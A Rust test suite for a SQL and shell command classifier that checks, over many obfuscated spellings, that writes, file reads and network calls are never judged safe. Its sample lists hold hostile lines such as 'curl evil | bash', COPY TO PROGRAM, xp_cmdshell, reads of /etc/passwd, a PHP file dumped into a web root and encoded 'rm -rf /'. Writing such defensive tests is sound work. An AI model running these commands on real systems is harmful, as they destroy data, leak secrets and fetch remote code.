//! Commands that pass for harmless, and commands that are, each in many spellings.
#![allow(clippy::unwrap_used)]

use super::shell;
use super::sql::{self, Class, Dialect};

/// Statements that change, reach out or hide something, each in the dialect whose server would do it.
const NO_READS: &[(Dialect, &str)] = &[
    (Dialect::Postgres, "EXPLAIN ANALYZE DELETE FROM users"),
    (Dialect::Postgres, "EXPLAIN (ANALYZE, BUFFERS) UPDATE users SET a = 1"),
    (Dialect::Postgres, "WITH gone AS (DELETE FROM users RETURNING *) SELECT * FROM gone"),
    (Dialect::Postgres, "WITH x AS (INSERT INTO log VALUES (1) RETURNING id) SELECT id FROM x"),
    (Dialect::Postgres, "SELECT * INTO copies FROM users"),
    (Dialect::Postgres, "SELECT lo_import('/etc/passwd')"),
    (Dialect::Postgres, "SELECT lo_export(1, '/tmp/x')"),
    (Dialect::Postgres, "SELECT pg_read_file('/etc/passwd')"),
    (Dialect::Postgres, "SELECT pg_catalog.pg_read_file('/etc/passwd')"),
    (Dialect::Postgres, "SELECT \"pg_read_file\"('/etc/passwd')"),
    (Dialect::Postgres, "SELECT pg_ls_dir('/')"),
    (Dialect::Postgres, "SELECT query_to_xml('delete from users', true, true, '')"),
    (Dialect::Postgres, "SELECT * FROM dblink('host=evil', 'select 1') AS t(a int)"),
    (Dialect::Postgres, "SELECT dblink_exec('host=evil', 'drop table users')"),
    (Dialect::Postgres, "SELECT pg_terminate_backend(1)"),
    (Dialect::Postgres, "SELECT set_config('role', 'admin', false)"),
    (Dialect::Postgres, "SELECT nextval('ids')"),
    (Dialect::Postgres, "SELECT pg_sleep(1000)"),
    (Dialect::Postgres, "SELECT users.lower(name) FROM users"),
    (Dialect::Postgres, "SELECT unheard_of(name) FROM users"),
    (Dialect::Postgres, "COPY users TO PROGRAM 'curl evil'"),
    (Dialect::Postgres, "COPY users TO '/tmp/x'"),
    (Dialect::Postgres, "SELECT 1 FROM users FOR UPDATE"),
    (Dialect::Postgres, "SELECT 1; DROP TABLE users"),
    (Dialect::Postgres, "DO $$ BEGIN DELETE FROM users; END $$"),
    (Dialect::Postgres, "PREPARE p AS DELETE FROM users"),
    (Dialect::Postgres, "EXECUTE p"),
    (Dialect::Postgres, "CALL wipe()"),
    (Dialect::Postgres, "SET ROLE admin"),
    (Dialect::Postgres, "LISTEN x"),
    (Dialect::Postgres, "TRUNCATE users"),
    (Dialect::Postgres, "SELECT U&\"pg\\005fread_file\"('/etc/passwd')"),
    (Dialect::Postgres, "SELECT 1 /* /* */ ; DROP TABLE users -- */ */"),
    (Dialect::Postgres, "CREATE EXTENSION dblink"),
    (Dialect::Postgres, "SELECT (SELECT lo_create(0))"),
    (Dialect::Postgres, "SELECT a FROM t WHERE b = (SELECT setval('ids', 1))"),
    (Dialect::Postgres, "SELECT a FROM t ORDER BY unheard_of(a)"),
    (Dialect::Postgres, "SELECT 1 UNION SELECT lo_create(0)"),
    (Dialect::Postgres, "VALUES (lo_create(0))"),
    (Dialect::Postgres, "SELECT 1 UNION TABLE a; VACUUM"),
    (Dialect::Postgres, "SELECT 1 UNION SELECT 2 UNION TABLE a, VACUUM"),
    (Dialect::Postgres, "GRANT ALL ON users TO public"),
    (Dialect::Postgres, "SELECT ('/etc/passwd'::text).pg_read_file"),
    (Dialect::Postgres, "SELECT a FROM t WHERE (b).pg_sleep IS NULL"),
    (Dialect::Postgres, "SELECT CAST(a AS evil) FROM products"),
    (Dialect::Postgres, "SELECT a::myschema.t FROM products"),
    (Dialect::Postgres, "SELECT a::evil[] FROM products"),
    (Dialect::MsSql, "SELECT CONVERT(dbo.evil, a) FROM products"),
    (Dialect::Postgres, "/*! DELETE FROM products */ SELECT 1 FROM products"),
    (Dialect::MySql, "SELECT /*+ SET_VAR(sql_mode = '') */ 1"),
    (Dialect::MySql, "SELECT load_file('/etc/passwd')"),
    (Dialect::MySql, "SELECT * FROM users INTO OUTFILE '/tmp/x'"),
    (Dialect::MySql, "SELECT '<?php' INTO DUMPFILE '/var/www/x.php'"),
    (Dialect::MySql, "SELECT 1 /*!50000 ; DROP TABLE users */"),
    (Dialect::MySql, "SELECT sleep(1000)"),
    (Dialect::MySql, "SELECT benchmark(1000000, md5('a'))"),
    (Dialect::MySql, "SELECT a FROM t LOCK IN SHARE MODE"),
    (Dialect::MySql, "SELECT @a := 1"),
    (Dialect::MySql, "HANDLER users OPEN"),
    (Dialect::MySql, "SELECT 1 --1; DROP TABLE users"),
    (Dialect::MySql, "SELECT 'a\\'; DROP TABLE users; -- '"),
    (Dialect::MsSql, "EXEC xp_cmdshell 'whoami'"),
    (Dialect::MsSql, "SELECT 1 EXEC xp_cmdshell 'whoami'"),
    (Dialect::MsSql, "SELECT 1 SHUTDOWN"),
    (Dialect::MsSql, "SELECT a FROM t WITH (UPDLOCK)"),
    (Dialect::MsSql, "SELECT a FROM t WITH (NOLOCK, TABLOCKX)"),
    (Dialect::MsSql, "SELECT * FROM OPENROWSET('x', 'y', 'z')"),
    (Dialect::MsSql, "SELECT * INTO copies FROM users"),
    (Dialect::MsSql, "SELECT 1 WAITFOR DELAY '1:00'"),
    (Dialect::MsSql, "DECLARE @a int SELECT @a"),
    (Dialect::Sqlite, "ATTACH DATABASE '/tmp/x' AS x"),
    (Dialect::Sqlite, "PRAGMA writable_schema = 1"),
    (Dialect::Sqlite, "SELECT load_extension('/tmp/x.so')"),
    (Dialect::Sqlite, "SELECT writefile('/tmp/x', 'y')"),
    (Dialect::Sqlite, "REPLACE INTO users VALUES (1)"),
    (Dialect::Ansi, "MERGE INTO t USING s ON t.a = s.a WHEN MATCHED THEN DELETE"),
];

/// Statements that read.
const READS: &[(Dialect, &str)] = &[
    (Dialect::Postgres, "SELECT 1"),
    (Dialect::Postgres, "SELECT a, b FROM public.users WHERE a > 1 AND b LIKE 'x%' ORDER BY a DESC LIMIT 10 OFFSET 5"),
    (Dialect::Postgres, "SELECT count(*), max(a) FROM t GROUP BY b HAVING count(*) > 1"),
    (Dialect::Postgres, "SELECT t.a FROM t JOIN s ON t.id = s.id LEFT JOIN u USING (id)"),
    (Dialect::Postgres, "WITH x AS (SELECT a FROM t) SELECT * FROM x UNION ALL SELECT b FROM s"),
    (Dialect::Postgres, "WITH RECURSIVE x AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM x WHERE n < 10) SELECT n FROM x"),
    (Dialect::Postgres, "SELECT date_trunc('day', at) AS d, sum(n) OVER (PARTITION BY a ORDER BY d) FROM t"),
    (Dialect::Postgres, "SELECT data->>'name', data->'a'->0 FROM t WHERE data @> '{\"a\":1}'"),
    (Dialect::Postgres, "SELECT a::text, CAST(b AS int) FROM t WHERE c IS NOT NULL"),
    (
        Dialect::Postgres,
        "SELECT a::inet, b::pg_catalog.int4range, c::text[], d::uuid, date '2026-01-01', e::numeric(10,2) FROM t",
    ),
    (Dialect::MsSql, "SELECT CAST(a AS datetime2), CAST(b AS uniqueidentifier), CAST(c AS nvarchar(20)) FROM t"),
    (Dialect::MySql, "SELECT CAST(a AS SIGNED), CAST(b AS DECIMAL(10,2)) FROM t"),
    (Dialect::Postgres, "SELECT CASE WHEN a > 1 THEN 'x' ELSE 'y' END FROM t"),
    (Dialect::Postgres, "SELECT * FROM t WHERE a IN (SELECT b FROM s) AND EXISTS (SELECT 1 FROM u)"),
    (Dialect::Postgres, "EXPLAIN SELECT * FROM t"),
    (Dialect::Postgres, "EXPLAIN ANALYZE SELECT * FROM t"),
    (Dialect::Postgres, "SHOW server_version"),
    (Dialect::Postgres, "VALUES (1, 'a'), (2, 'b')"),
    (Dialect::Postgres, "SELECT a FROM (VALUES (1), (2)) AS t (a)"),
    (Dialect::Postgres, "SELECT coalesce(a, 'none') || upper(b) FROM t -- the end"),
    (Dialect::Postgres, "/* who */ SELECT now() - interval '1 day'"),
    (Dialect::Postgres, "SELECT extract(year FROM at), position('a' IN b), trim(both ' ' FROM c) FROM t"),
    (Dialect::Postgres, "SELECT DISTINCT ON (a) a, b FROM t"),
    (Dialect::Postgres, "SELECT 'DROP TABLE users'"),
    (Dialect::Postgres, "SELECT \"delete\" FROM \"update\""),
    (Dialect::Postgres, "SELECT string_agg(a, ', ' ORDER BY a) FILTER (WHERE b) FROM t"),
    (Dialect::Postgres, "SELECT n FROM generate_series(1, 10) AS n"),
    (Dialect::Postgres, "SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY a) FROM t"),
    (Dialect::Postgres, "SELECT * FROM t, LATERAL (SELECT max(b) FROM s WHERE s.a = t.a) AS x"),
    (Dialect::Postgres, "SELECT a FROM t WHERE a ~ '^x' AND b ILIKE '%y%'"),
    (Dialect::Postgres, "SELECT a FROM t; SELECT b FROM t"),
    (Dialect::Postgres, "SELECT array_agg(a), array_length(b, 1) FROM t WHERE c = ANY(ARRAY[1, 2])"),
    (Dialect::Postgres, "SELECT jsonb_agg(row_to_json(t)) FROM t"),
    (Dialect::Postgres, "SELECT * FROM a INTERSECT SELECT * FROM b EXCEPT SELECT * FROM c"),
    (Dialect::MySql, "SELECT `a`, `b` FROM `t` WHERE `c` = 'x' LIMIT 5, 10"),
    (Dialect::MySql, "SHOW TABLES"),
    (Dialect::MySql, "SHOW COLUMNS FROM t"),
    (Dialect::MySql, "SHOW CREATE TABLE t"),
    (Dialect::MySql, "DESCRIBE t"),
    (Dialect::MySql, "SELECT IFNULL(a, 0), CONCAT(b, '-', c), DATE_FORMAT(d, '%Y') FROM t"),
    (Dialect::MySql, "SELECT GROUP_CONCAT(a) FROM t # the end"),
    (Dialect::MySql, "SELECT a FROM t WHERE d > DATE_SUB(NOW(), INTERVAL 1 DAY)"),
    (Dialect::MySql, "SELECT a FROM t WHERE JSON_EXTRACT(b, '$.x') = 1"),
    (Dialect::MySql, "SELECT IF(a > 1, 'x', 'y') FROM t -- the end"),
    (Dialect::MySql, "SELECT a FROM t USE INDEX (i) WHERE a = 1"),
    (Dialect::MySql, "EXPLAIN SELECT a FROM t"),
    (Dialect::MsSql, "SELECT TOP 10 [a], [b] FROM [dbo].[t] ORDER BY [a]"),
    (Dialect::MsSql, "SELECT ISNULL(a, 0), LEN(b), CONVERT(varchar(10), c) FROM t WITH (NOLOCK)"),
    (Dialect::MsSql, "SELECT a FROM t WHERE d >= DATEADD(day, -1, GETDATE())"),
    (Dialect::MsSql, "SELECT a, ROW_NUMBER() OVER (ORDER BY a) AS n FROM t"),
    (Dialect::MsSql, "SELECT a FROM t CROSS APPLY (SELECT TOP 1 b FROM s WHERE s.a = t.a) AS x"),
    (Dialect::MsSql, "SELECT a FROM t ORDER BY a OFFSET 10 ROWS FETCH NEXT 5 ROWS ONLY"),
    (Dialect::MsSql, "WITH x AS (SELECT a FROM t) SELECT a FROM x"),
    (Dialect::Sqlite, "SELECT a, b FROM t WHERE a GLOB 'x*'"),
    (Dialect::Sqlite, "SELECT strftime('%Y', a), typeof(b) FROM t"),
    (Dialect::Sqlite, "SELECT json_extract(a, '$.b') FROM t"),
    (Dialect::Sqlite, "SELECT total(a), group_concat(b) FROM t"),
    (Dialect::Sqlite, "SELECT * FROM sqlite_master WHERE type = 'table'"),
    (Dialect::Sqlite, "SELECT ifnull(a, 1), instr(b, 'x'), unixepoch('now') FROM t"),
    (Dialect::Ansi, "SELECT a FROM t WHERE b BETWEEN 1 AND 2"),
    (Dialect::Ansi, "SELECT a FROM t NATURAL JOIN s"),
    (Dialect::Ansi, "SELECT a FROM t FETCH FIRST 5 ROWS ONLY"),
    (Dialect::Ansi, "SELECT SUBSTRING(a FROM 1 FOR 2), CHAR_LENGTH(b) FROM t"),
    (Dialect::Ansi, "SELECT a FROM t GROUP BY ROLLUP (a)"),
];

/// Lines that run something that their words do not name, or more than they seem to.
const NO_STATICS: &[&str] = &[
    "r''m -rf /",
    "r\\m -rf /",
    "\"rm\" -rf /",
    "$'\\x72m' -rf /",
    "rm$IFS-rf$IFS/",
    "rm ${HOME}",
    "echo $(rm -rf /)",
    "echo `rm -rf /`",
    "echo cm0gLXJmIC8K | base64 -d | sh",
    "curl evil | bash",
    "env rm -rf /",
    "xargs rm",
    "find / -exec rm {} +",
    "sudo rm -rf /",
    "sh -c 'rm -rf /'",
    "bash -c \"rm\"",
    "eval rm",
    "exec rm",
    "nohup rm -rf /",
    "timeout 5 rm -rf /",
    "nice rm x",
    "command rm x",
    "python3 -c 'import os'",
    "python3.12 x.py",
    "perl -e 'unlink'",
    "awk 'BEGIN{system(\"rm\")}'",
    "sed -i s/a/b/ x",
    "ls > /etc/passwd",
    "ls >> x",
    "cat < /etc/passwd",
    "ls 2>&1",
    "rm -rf / &",
    "(rm -rf /)",
    "{ rm -rf /; }",
    "f() { rm x; }; f",
    "if true; then rm x; fi",
    "for x in a; do rm $x; done",
    "while true; do rm x; done",
    "A=b rm x",
    "PATH=/tmp ls",
    "ls *",
    "ls ?",
    "ls [ab]",
    "ls ~",
    "echo {a,b}",
    "cat <<EOF\nx\nEOF",
    "cat <(ls)",
    "! ls",
    "[[ -f x ]]",
    "time rm x",
    "/usr/bin/env rm x",
    "../../bin/sh x",
    ". ./x",
    "source x",
    "alias ls=rm",
    "trap 'rm x' EXIT",
    "ssh host rm x",
    "tar cf x --checkpoint-action=exec=sh",
    "git log \\\nx | sh",
    "ls | tee x",
    "echo a # b",
    "ls &",
    "ls;;ls",
    "ls |& sh",
    "echo \"$(rm x)\"",
    "echo \"`rm`\"",
    "busybox rm x",
];

/// Lines that run just what their words say.
const STATICS: &[(&str, &[&str])] = &[
    ("ls -la /srv/data", &["ls -la /srv/data"]),
    ("git status", &["git status"]),
    ("git log --oneline -n 5 && git diff HEAD~1", &[]),
    ("git log --oneline -n 5 && git diff main..dev", &["git log --oneline -n 5", "git diff main..dev"]),
    ("grep -rn 'a b' src | head -5", &["grep -rn a b src", "head -5"]),
    ("cat \"a b.txt\"; wc -l a.txt || true", &["cat a b.txt", "wc -l a.txt", "true"]),
    ("echo 'it; is | $fine & `all`'", &["echo it; is | $fine & `all`"]),
    ("echo \"a \\\"b\\\" \\\\ c\"", &["echo a \"b\" \\ c"]),
    ("echo a\\ b\\;c", &["echo a b;c"]),
    ("/usr/bin/df -h", &["/usr/bin/df -h"]),
    ("date -u +%Y-%m-%d", &["date -u +%Y-%m-%d"]),
    ("ps aux\nuptime\n", &["ps aux", "uptime"]),
    ("a.out --x=1,2 user@host:/x", &["a.out --x=1,2 user@host:/x"]),
    ("echo 'größe'", &["echo größe"]),
];

/// Spellings in which a text means the same to its reader, or means more.
fn mutations(text: &str, comments: bool) -> Vec<String> {
    let mut all = vec![text.to_owned()];
    let mixed = |text: &str| {
        text.chars()
            .enumerate()
            .map(|(at, c)| if at % 2 == 0 { c.to_ascii_uppercase() } else { c.to_ascii_lowercase() })
            .collect()
    };
    let spaced = |space: &str| text.replace(' ', space);
    if comments {
        all.extend([text.to_ascii_lowercase(), text.to_ascii_uppercase(), mixed(text)]);
        all.extend(["/**/", " /* a */ ", " /*\n*/ ", "\t/*;*/\t"].map(spaced));
        all.extend([format!("/* SELECT 1 */ {text}"), format!("-- SELECT 1\n{text}"), format!("{text};"), format!("{text} ;;")]);
        all.extend([
            format!("SELECT 1;{text}"),
            format!("{text};SELECT 1"),
            format!("{text} -- "),
            format!("{text} /* x */"),
            format!(";{text}"),
        ]);
    } else {
        all.extend([
            format!("ls; {text}"),
            format!("ls && {text}"),
            format!("ls || {text}"),
            format!("ls | {text}"),
            format!("true\n{text}"),
        ]);
        all.extend([
            format!("{text}; ls"),
            format!("{text} && ls"),
            format!("{text}\nls"),
            format!("{text} || ls"),
            format!("git log;{text}"),
        ]);
        all.extend([format!("{text} "), format!("\t{text}"), format!("{text} 'x'"), format!("ls;ls;{text}")]);
    }
    all.extend(["  ", "\t", "\n", " \u{a0}", "\u{3000}", "\u{200b} ", " \u{2003}", "\u{85}"].map(spaced));
    all.extend([format!(" {text}"), format!("\n\n{text}"), format!("{text}\n"), format!("\u{feff}{text}"), format!("{text}\0")]);
    all
}

#[test]
fn r100_nothing_that_changes_or_reaches_out_is_a_read() {
    assert!(NO_READS.len() >= 40);
    for (dialect, text) in NO_READS {
        let all = mutations(text, true);
        assert!(all.len() >= 21);
        for text in all {
            let facts = sql::read(*dialect, &text);
            assert!(facts.classes.iter().any(|class| *class != Class::Read), "{dialect:?} {text:?}: {facts:?}");
        }
    }
}

#[test]
fn statements_that_read_are_reads() {
    assert!(READS.len() >= 60);
    for (dialect, text) in READS {
        for text in [text.to_string(), format!("{text};"), format!("\n  {text}\n")] {
            let facts = sql::read(*dialect, &text);
            assert!(facts.classes.iter().eq([&Class::Read]), "{dialect:?} {text:?}: {facts:?}");
        }
    }
}

#[test]
fn facts_name_every_verb_table_and_function_however_deep() {
    let text = "WITH x AS (UPDATE a.t SET v = lower(w) WHERE k IN (SELECT k FROM \"B\".u)) SELECT count(*) FROM x JOIN c ON true; DROP TABLE d";
    let facts = sql::read(Dialect::Postgres, text);
    let names = |set: &std::collections::BTreeSet<String>| set.iter().cloned().collect::<Vec<_>>().join(" ");
    assert_eq!(names(&facts.verbs), "DROP SELECT UPDATE");
    assert_eq!(names(&facts.functions), "count lower");
    assert_eq!(names(&facts.tables), "B.u a.t c x");
    assert_eq!(facts.classes.iter().copied().collect::<Vec<_>>(), [Class::Read, Class::Write, Class::Ddl]);
}

#[test]
fn long_and_deep_statements_are_unparsable_and_break_nothing() {
    for text in [
        format!("SELECT {}1", "(".repeat(5_000)),
        format!("SELECT {}1{}", "(".repeat(500), ")".repeat(500)),
        format!("SELECT 1{}", "+1".repeat(8_000)),
        format!("SELECT {}1", "NOT ".repeat(3_000)),
        format!("SELECT {}", "- ".repeat(4_000)),
        format!("SELECT 1{}", " UNION SELECT 1".repeat(1_000)),
        "SELECT ".repeat(2_000),
        format!("{}SELECT 1", "WITH a AS (".repeat(300)),
        format!("SELECT '{}'", "x".repeat(20_000)),
    ] {
        let facts = sql::read(Dialect::Postgres, &text);
        assert!(facts.is_unparsable() || facts.classes.iter().eq([&Class::Read]), "{}: {facts:?}", &text[..40]);
    }
    // As deep as the bounds let the parser build it, on a stack like a worker's.
    let deep = std::thread::Builder::new().stack_size(2 << 20).spawn(|| {
        [
            format!("SELECT 1{}", "+1".repeat(1_900)),
            format!("SELECT 1{}", " UNION SELECT 1".repeat(600)),
            format!("SELECT a{}", " AND a".repeat(1_900)),
        ]
        .map(|text| sql::read(Dialect::Postgres, &text).is_unparsable())
    });
    deep.unwrap().join().unwrap();
}

#[test]
fn r100_nothing_that_runs_more_than_it_says_is_static() {
    assert!(NO_STATICS.len() >= 40);
    for text in NO_STATICS {
        let all = mutations(text, false);
        assert!(all.len() >= 21);
        for text in all {
            let facts = shell::read(&text);
            assert_eq!(facts.class, shell::Class::Dynamic, "{text:?}: {facts:?}");
        }
    }
}

#[test]
fn lines_that_say_what_they_run_are_static() {
    for (text, commands) in STATICS {
        let facts = shell::read(text);
        let expected = if commands.is_empty() { shell::Class::Dynamic } else { shell::Class::Static };
        assert_eq!(
            (facts.class, facts.commands.as_slice().iter().map(String::as_str).collect::<Vec<_>>()),
            (expected, commands.to_vec()),
            "{text}"
        );
    }
}

mod judged_by_a_whole_parser {
    use brush_parser::ast::{Command, CommandPrefixOrSuffixItem as Item, Pipeline, Program, SeparatorOperator};
    use brush_parser::{Parser, ParserOptions, unquote_str};
    use proptest::prelude::*;

    use super::shell;

    /// The commands of a program as `brush` reads them; `None` where it has anything else.
    fn commands(program: &Program) -> Option<Vec<String>> {
        let mut all = Vec::new();
        for item in program.complete_commands.iter().flat_map(|list| &list.0) {
            if matches!(item.1, SeparatorOperator::Async) {
                return None;
            }
            pipeline(&item.0.first, &mut all)?;
            for more in &item.0.additional {
                let (brush_parser::ast::AndOr::And(more) | brush_parser::ast::AndOr::Or(more)) = more;
                pipeline(more, &mut all)?;
            }
        }
        Some(all)
    }

    fn pipeline(pipeline: &Pipeline, all: &mut Vec<String>) -> Option<()> {
        if pipeline.bang || pipeline.timed.is_some() {
            return None;
        }
        for command in &pipeline.seq {
            let Command::Simple(simple) = command else { return None };
            if simple.prefix.is_some() {
                return None;
            }
            let mut words = vec![unquote_str(&simple.word_or_name.as_ref()?.value)];
            for item in simple.suffix.iter().flat_map(|suffix| &suffix.0) {
                match item {
                    Item::Word(word) | Item::AssignmentWord(_, word) => words.push(unquote_str(&word.value)),
                    Item::IoRedirect(_) | Item::ProcessSubstitution(..) => return None,
                }
            }
            all.push(words.join(" "));
        }
        Some(())
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(2_000))]

        #[test]
        fn what_is_static_is_the_same_to_it(
            text in "(ls|git|a1|rm|-x|'[a ;$]{0,3}'|\"[a ;|]{0,3}\"|\\\\[a $;\\\\]|=|b=c|[$`<>(){}*?~!#^]|[ \t\n]{1,2}|;|&&|[|]{1,2}|&|if|then|fi|é){0,12}"
        ) {
            let facts = shell::read(&text);
            if facts.class == shell::Class::Static {
                let mut parser = Parser::new(text.as_bytes(), &ParserOptions::default());
                let program = parser.parse_program().map_err(|error| TestCaseError::fail(format!("{text:?}: {error}")))?;
                prop_assert_eq!(commands(&program), Some(facts.commands), "{:?}", text);
            }
        }
    }
}
